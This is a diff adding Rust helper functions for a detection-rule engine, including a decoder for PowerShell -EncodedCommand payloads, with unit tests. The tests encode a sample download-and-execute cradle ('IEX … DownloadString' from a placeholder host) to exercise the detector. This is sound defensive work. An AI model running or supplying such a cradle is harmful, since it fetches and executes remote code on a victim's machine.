@@ -1,0 +1,133 @@
+//! Pure functions rule authors call from Rhai. None of them does I/O.
+//!
+//! | function | returns |
+//! | --- | --- |
+//! | `icontains(text, part)` | `text` contains `part`, ignoring ASCII case |
+//! | `contains_any(text, [parts])` | `text` contains any of `parts`, ignoring ASCII case |
+//! | `ends_with_any(text, [ends])` | `text` ends with any of `ends`, ignoring ASCII case |
+//! | `basename(path)` | the last component of a Windows or Unix path |
+//! | `powershell_encoded(cmdline)` | the decoded `-EncodedCommand` payload, or `()` |
+//!
+//! Each accepts `()` where it takes text, and treats it as empty, so an absent field does not
+//! make a rule fail.
+
+use base64::Engine as _;
+use rhai::{Array, Dynamic, Engine, ImmutableString};
+
+pub fn register(engine: &mut Engine) {
+    engine
+        .register_fn("icontains", |text: &str, part: &str| icontains(text, part))
+        .register_fn("icontains", |_: (), _: &str| false)
+        .register_fn("contains_any", |text: &str, parts: Array| {
+            strings(&parts).any(|part| icontains(text, &part))
+        })
+        .register_fn("contains_any", |_: (), _: Array| false)
+        .register_fn("ends_with_any", |text: &str, ends: Array| {
+            strings(&ends).any(|end| ends_with_ignore_case(text, &end))
+        })
+        .register_fn("ends_with_any", |_: (), _: Array| false)
+        .register_fn("basename", |path: &str| basename(path).to_string())
+        .register_fn("basename", |_: ()| String::new())
+        .register_fn("powershell_encoded", |cmdline: &str| {
+            powershell_encoded(cmdline).map_or(Dynamic::UNIT, Dynamic::from)
+        })
+        .register_fn("powershell_encoded", |_: ()| Dynamic::UNIT);
+}
+
+fn strings(items: &Array) -> impl Iterator<Item = ImmutableString> + '_ {
+    items
+        .iter()
+        .filter_map(|item| item.clone().into_immutable_string().ok())
+}
+
+/// Case-insensitive (ASCII) substring test without allocating.
+pub fn icontains(text: &str, part: &str) -> bool {
+    let (text, part) = (text.as_bytes(), part.as_bytes());
+    if part.is_empty() {
+        return true;
+    }
+    text.windows(part.len())
+        .any(|window| window.eq_ignore_ascii_case(part))
+}
+
+pub fn ends_with_ignore_case(text: &str, end: &str) -> bool {
+    text.len() >= end.len()
+        && text.as_bytes()[text.len() - end.len()..].eq_ignore_ascii_case(end.as_bytes())
+}
+
+pub fn starts_with_ignore_case(text: &str, start: &str) -> bool {
+    text.len() >= start.len()
+        && text.as_bytes()[..start.len()].eq_ignore_ascii_case(start.as_bytes())
+}
+
+fn basename(path: &str) -> &str {
+    path.rsplit(['\\', '/']).next().unwrap_or(path)
+}
+
+/// PowerShell accepts any unambiguous prefix of `-EncodedCommand` from `-e` on (and `/` as well
+/// as `-`); the payload is base64 of UTF-16LE text.
+fn powershell_encoded(cmdline: &str) -> Option<String> {
+    let mut words = cmdline.split_whitespace();
+    while let Some(word) = words.next() {
+        let flag = word.trim_start_matches(['-', '/']).to_ascii_lowercase();
+        let is_flag = word.len() > flag.len()
+            && !flag.is_empty()
+            && ("encodedcommand".starts_with(&flag) || flag == "ec");
+        if !is_flag {
+            continue;
+        }
+        let payload = words.next()?.trim_matches(['"', '\'']);
+        let bytes = base64::engine::general_purpose::STANDARD
+            .decode(payload)
+            .ok()?;
+        let units: Vec<u16> = bytes
+            .chunks_exact(2)
+            .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
+            .collect();
+        return Some(String::from_utf16_lossy(&units));
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn encode(text: &str) -> String {
+        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        base64::engine::general_purpose::STANDARD.encode(bytes)
+    }
+
+    #[test]
+    fn decodes_every_spelling_of_the_encoded_flag() {
+        let payload = encode("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
+        for flag in ["-e", "-enc", "-EncodedCommand", "/enc", "-ec", "-ENCOD"] {
+            let decoded = powershell_encoded(&format!("powershell.exe -nop {flag} {payload}"));
+            assert!(
+                decoded.unwrap_or_default().contains("DownloadString"),
+                "{flag}"
+            );
+        }
+        assert_eq!(
+            powershell_encoded("powershell.exe -ExecutionPolicy Bypass"),
+            None
+        );
+        assert_eq!(powershell_encoded("powershell.exe -enc !!notbase64"), None);
+    }
+
+    #[test]
+    fn case_insensitive_matching() {
+        assert!(icontains("IEX (New-Object Net.WebClient)", "net.webclient"));
+        assert!(!icontains("abc", "abcd"));
+        assert!(ends_with_ignore_case(
+            "C:\\Windows\\POWERSHELL.EXE",
+            "powershell.exe"
+        ));
+        assert!(starts_with_ignore_case("WinWord.exe", "winword"));
+        assert_eq!(
+            basename("C:\\Program Files\\Office\\WINWORD.EXE"),
+            "WINWORD.EXE"
+        );
+        assert_eq!(basename("/usr/bin/bash"), "bash");
+    }
+}
